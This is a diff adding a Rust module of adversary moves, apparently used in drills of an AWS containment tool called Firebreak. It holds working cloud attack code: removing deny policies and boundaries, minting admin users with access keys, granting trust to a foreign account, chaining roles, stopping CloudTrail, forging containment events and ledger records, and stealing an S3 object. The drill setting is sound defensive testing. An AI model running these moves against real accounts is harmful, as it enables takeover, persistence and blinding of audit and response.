@@ -1,0 +1,338 @@
+//! The moves of the adversary: each a call, or the few calls that make sense together, with one outcome.
+
+use anyhow::Result;
+use aws_credential_types::Credentials;
+use aws_sdk_dynamodb::types::AttributeValue;
+use aws_sdk_eventbridge::types::PutEventsRequestEntry;
+use aws_sdk_iam::types::Tag;
+use aws_sdk_lambda::types::FunctionUrlAuthType;
+use firebreak_model::action::FunctionName;
+use firebreak_model::finding::DRILL_PATH;
+use firebreak_model::ids::IncidentId;
+use serde_json::json;
+
+use crate::acts::REVOCATION;
+use crate::aws::{ACCOUNT, Aws};
+use crate::deploy::Stack;
+use crate::scene::{Role, Victim};
+use crate::thief::{Outcome, outcome};
+
+const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
+const FOREIGN: &str = "arn:aws:iam::999988887777:root";
+
+/// What the adversary does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Move {
+    /// Detaches the deny from the role.
+    DetachDeny,
+    /// Deletes the role's permissions boundary.
+    DropBoundary,
+    /// Puts a boundary that allows everything over the one that denies.
+    ReplaceBoundary,
+    /// Deletes the revocation.
+    DropRevocation,
+    /// Makes a version of the deny policy that denies nothing, and the default of it.
+    EmptyDenyPolicy,
+    /// Makes a user with every right, and a key of it.
+    MintUser,
+    /// Makes a role with every right, which the account may assume.
+    MintRole,
+    /// Lets a foreign account assume the role.
+    WidenTrust,
+    /// Assumes another role of the account.
+    ChainRole,
+    /// Sets the function's concurrency, event source and URL free.
+    FreeFunction,
+    /// Tags the role as exempt.
+    TagItself,
+    /// Attaches policies to the role until no more go on.
+    FillQuota,
+    /// Tells Firebreak's bus that the containment was released.
+    ForgeEvent,
+    /// Writes into the ledger.
+    ForgeRecord,
+    /// Disables the rule that findings come by.
+    DisableRule,
+    /// Takes from the rule the permission to invoke.
+    RemovePermission,
+    /// Sets the concurrency of the function that quarantines to 0.
+    StopResponder,
+    /// Stops the trail.
+    StopTrail,
+    /// Invokes the release itself.
+    InvokeRelease,
+    /// Steals an object.
+    Steal,
+}
+
+impl Move {
+    /// What would end the containment of the role.
+    pub const UNDOING: [Self; 5] =
+        [Self::DetachDeny, Self::DropBoundary, Self::ReplaceBoundary, Self::DropRevocation, Self::FreeFunction];
+
+    /// What would set the principal free.
+    pub const FREEING: [Self; 3] = [Self::DetachDeny, Self::DropBoundary, Self::ReplaceBoundary];
+
+    /// What is done once, as soon as there is time: first what outlives the session. (A record is not forged: against
+    /// whoever may write the ledger there is the policy, and nothing else to measure.)
+    pub const GREEDY: [Self; 7] = [
+        Self::MintUser,
+        Self::ChainRole,
+        Self::MintRole,
+        Self::WidenTrust,
+        Self::TagItself,
+        Self::FillQuota,
+        Self::ForgeEvent,
+    ];
+
+    /// What blinds Firebreak or takes its parts away: put right by the operator afterwards.
+    pub const BLINDING: [Self; 8] = [
+        Self::InvokeRelease,
+        Self::EmptyDenyPolicy,
+        Self::DisableRule,
+        Self::RemovePermission,
+        Self::StopResponder,
+        Self::StopTrail,
+        Self::ForgeEvent,
+        Self::ForgeRecord,
+    ];
+
+    /// Its name.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::DetachDeny => "detaches the deny",
+            Self::DropBoundary => "deletes the boundary",
+            Self::ReplaceBoundary => "replaces the boundary",
+            Self::DropRevocation => "deletes the revocation",
+            Self::EmptyDenyPolicy => "empties the deny policy",
+            Self::MintUser => "mints a user and a key",
+            Self::MintRole => "mints a role",
+            Self::WidenTrust => "widens the trust",
+            Self::ChainRole => "assumes another role",
+            Self::FreeFunction => "sets the function free",
+            Self::TagItself => "tags itself",
+            Self::FillQuota => "fills the quota",
+            Self::ForgeEvent => "forges an event",
+            Self::ForgeRecord => "forges a record",
+            Self::DisableRule => "disables the rule",
+            Self::RemovePermission => "removes the rule's permission",
+            Self::StopResponder => "stops the responder",
+            Self::StopTrail => "stops the trail",
+            Self::InvokeRelease => "invokes the release",
+            Self::Steal => "steals an object",
+        }
+    }
+}
+
+/// What the adversary is after, and what it knows.
+#[derive(Debug, Clone)]
+pub struct Target {
+    /// The function whose session was stolen, its role and what it reaches.
+    pub victim: Victim,
+    /// Another role of the account, which it may assume.
+    pub other: Role,
+    /// Firebreak.
+    pub stack: Stack,
+    /// The incident.
+    pub incident: IncidentId,
+    /// A trail.
+    pub trail: String,
+    /// The suffix of what it makes.
+    pub suffix: String,
+}
+
+/// What came of a move: how it went, and who the adversary now also is.
+#[derive(Debug)]
+pub struct Made {
+    /// How it went.
+    pub outcome: Outcome,
+    /// An identity that it gained.
+    pub gained: Option<(String, Credentials)>,
+}
+
+impl From<Outcome> for Made {
+    fn from(outcome: Outcome) -> Self {
+        Self { outcome, gained: None }
+    }
+}
+
+impl Target {
+    /// Makes a move as `aws`.
+    ///
+    /// # Errors
+    /// Where a request cannot even be built.
+    pub async fn make(&self, aws: &Aws, which: Move) -> Result<Made> {
+        let role = &self.victim.role.name;
+        let iam = &aws.iam;
+        Ok(match which {
+            Move::DetachDeny => {
+                let arn = self.stack.output("DenyPolicyArn")?;
+                outcome(iam.detach_role_policy().role_name(role).policy_arn(arn).send().await).into()
+            }
+            Move::DropBoundary => outcome(iam.delete_role_permissions_boundary().role_name(role).send().await).into(),
+            Move::ReplaceBoundary => {
+                let put = iam.put_role_permissions_boundary().role_name(role);
+                outcome(put.permissions_boundary(ADMINISTRATOR).send().await).into()
+            }
+            Move::DropRevocation => {
+                outcome(iam.delete_role_policy().role_name(role).policy_name(REVOCATION).send().await).into()
+            }
+            Move::EmptyDenyPolicy => {
+                let document = json!({"Version": "2012-10-17", "Statement": [
+                    {"Effect": "Deny", "Action": "none:Nothing", "Resource": "*"}]});
+                let create = iam.create_policy_version().policy_arn(self.stack.output("DenyPolicyArn")?);
+                outcome(create.policy_document(document.to_string()).set_as_default(true).send().await).into()
+            }
+            Move::MintUser => self.mint_user(aws).await?,
+            Move::MintRole => self.mint_role(aws).await,
+            Move::WidenTrust => {
+                let trust = json!({"Version": "2012-10-17", "Statement": [
+                    {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"},
+                    {"Effect": "Allow", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"}]});
+                let update = iam.update_assume_role_policy().role_name(role);
+                outcome(update.policy_document(trust.to_string()).send().await).into()
+            }
+            Move::ChainRole => assume(aws, &self.other.arn, "the chained session").await,
+            Move::FreeFunction => self.free_function(aws).await,
+            Move::TagItself => {
+                let tag = Tag::builder().key("firebreak").value("exempt").build()?;
+                outcome(iam.tag_role().role_name(role).tags(tag).send().await).into()
+            }
+            Move::FillQuota => self.fill_quota(aws).await.into(),
+            Move::ForgeEvent => self.forge_event(aws).await?.into(),
+            Move::ForgeRecord => {
+                let put = aws.dynamodb.put_item().table_name(self.stack.output("LedgerTableName")?);
+                let put = put.item("pk", AttributeValue::S(format!("incident#{}", self.incident)));
+                outcome(put.item("sk", AttributeValue::S("forged".to_owned())).send().await).into()
+            }
+            Move::DisableRule => outcome(aws.events.disable_rule().name(self.rule()).send().await).into(),
+            Move::RemovePermission => {
+                let function = self.stack.function(FunctionName::QuarantinePrincipal);
+                let policy = match aws.lambda.get_policy().function_name(&function).send().await {
+                    Ok(answer) => answer.policy.unwrap_or_default(),
+                    failed => return Ok(outcome(failed).into()),
+                };
+                let policy: serde_json::Value = serde_json::from_str(&policy)?;
+                let sid = policy.pointer("/Statement/0/Sid").and_then(|sid| sid.as_str()).unwrap_or("none").to_owned();
+                let remove = aws.lambda.remove_permission().function_name(function).statement_id(sid);
+                outcome(remove.send().await).into()
+            }
+            Move::StopResponder => {
+                let function = self.stack.function(FunctionName::QuarantinePrincipal);
+                let put = aws.lambda.put_function_concurrency().function_name(function);
+                outcome(put.reserved_concurrent_executions(0).send().await).into()
+            }
+            Move::StopTrail => outcome(aws.cloudtrail.stop_logging().name(&self.trail).send().await).into(),
+            Move::InvokeRelease => {
+                let request = json!({"firebreak": "release", "incident_id": "fb-000000000000000000000000",
+                    "reason": "all is well", "requested_by": "the adversary"});
+                let function = self.stack.function(FunctionName::ReleaseContainment);
+                let invoke = aws.lambda.invoke().function_name(function);
+                outcome(invoke.payload(request.to_string().into_bytes().into()).send().await).into()
+            }
+            Move::Steal => {
+                let goods = &self.victim.goods;
+                outcome(aws.s3.get_object().bucket(&goods.bucket).key(&goods.object).send().await).into()
+            }
+        })
+    }
+
+    /// The rule that drills, and here findings, come by.
+    pub fn rule(&self) -> String {
+        format!("{}-drill-findings", self.stack.name)
+    }
+
+    async fn mint_user(&self, aws: &Aws) -> Result<Made> {
+        let name = format!("minted-{}", self.suffix);
+        let made = outcome(aws.iam.create_user().user_name(&name).path(DRILL_PATH).send().await);
+        if made.is_stopped() {
+            return Ok(made.into());
+        }
+        let attached = aws.iam.attach_user_policy().user_name(&name).policy_arn(ADMINISTRATOR).send().await;
+        if outcome(attached).is_stopped() {
+            return Ok(Outcome::Denied("the policy".to_owned()).into());
+        }
+        Ok(match aws.iam.create_access_key().user_name(&name).send().await {
+            Ok(answer) => {
+                let gained = answer.access_key().map(|key| {
+                    let credentials =
+                        Credentials::new(key.access_key_id(), key.secret_access_key(), None, None, "minted");
+                    ("the minted user".to_owned(), credentials)
+                });
+                Made { outcome: Outcome::Succeeded, gained }
+            }
+            failed => outcome(failed).into(),
+        })
+    }
+
+    async fn mint_role(&self, aws: &Aws) -> Made {
+        let name = format!("minted-{}", self.suffix);
+        let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
+            "Principal": {"AWS": format!("arn:aws:iam::{ACCOUNT}:root")}}]});
+        let create = aws.iam.create_role().role_name(&name).path(DRILL_PATH);
+        let made = outcome(create.assume_role_policy_document(trust.to_string()).send().await);
+        if made.is_stopped() {
+            return made.into();
+        }
+        outcome(aws.iam.attach_role_policy().role_name(&name).policy_arn(ADMINISTRATOR).send().await).into()
+    }
+
+    /// Assumes the role that was minted: it takes a while until it can be.
+    pub async fn assume_minted(&self, aws: &Aws) -> Made {
+        let arn = format!("arn:aws:iam::{ACCOUNT}:role{DRILL_PATH}minted-{}", self.suffix);
+        assume(aws, &arn, "the minted role").await
+    }
+
+    async fn free_function(&self, aws: &Aws) -> Made {
+        let function = &self.victim.function;
+        let put = aws.lambda.put_function_concurrency().function_name(function).reserved_concurrent_executions(5);
+        let freed = outcome(put.send().await);
+        if freed != Outcome::Succeeded {
+            return freed.into();
+        }
+        let update = aws.lambda.update_event_source_mapping().uuid(&self.victim.mapping).enabled(true);
+        let mapped = outcome(update.send().await);
+        let open = aws.lambda.update_function_url_config().function_name(function);
+        let opened = outcome(open.auth_type(FunctionUrlAuthType::None).send().await);
+        if mapped.is_stopped() { mapped.into() } else { opened.into() }
+    }
+
+    /// Attaches policies of AWS's until no more go on.
+    async fn fill_quota(&self, aws: &Aws) -> Outcome {
+        let mut last = Outcome::Other("nothing to attach".to_owned());
+        for name in ["ReadOnlyAccess", "PowerUserAccess", "SecurityAudit", "AmazonS3FullAccess", "IAMFullAccess"] {
+            let attach = aws.iam.attach_role_policy().role_name(&self.victim.role.name);
+            let done = outcome(attach.policy_arn(format!("arn:aws:iam::aws:policy/{name}")).send().await);
+            if done.is_stopped() {
+                return done;
+            }
+            last = done;
+        }
+        last
+    }
+
+    async fn forge_event(&self, aws: &Aws) -> Result<Outcome> {
+        let detail = json!({"schema": 1, "incident_id": self.incident, "episode": 1, "state": "released"});
+        let entry = PutEventsRequestEntry::builder()
+            .event_bus_name(self.stack.output("OutcomeBusName")?)
+            .source("firebreak")
+            .detail_type("Containment Released")
+            .detail(detail.to_string());
+        Ok(outcome(aws.events.put_events().entries(entry.build()).send().await))
+    }
+}
+
+async fn assume(aws: &Aws, arn: &str, as_whom: &str) -> Made {
+    match aws.sts.assume_role().role_arn(arn).role_session_name("adversary").send().await {
+        Ok(answer) => {
+            let gained = answer.credentials().map(|given| {
+                let token = Some(given.session_token().to_owned());
+                let credentials =
+                    Credentials::new(given.access_key_id(), given.secret_access_key(), token, None, "chained");
+                (as_whom.to_owned(), credentials)
+            });
+            Made { outcome: Outcome::Succeeded, gained }
+        }
+        failed => outcome(failed).into(),
+    }
+}
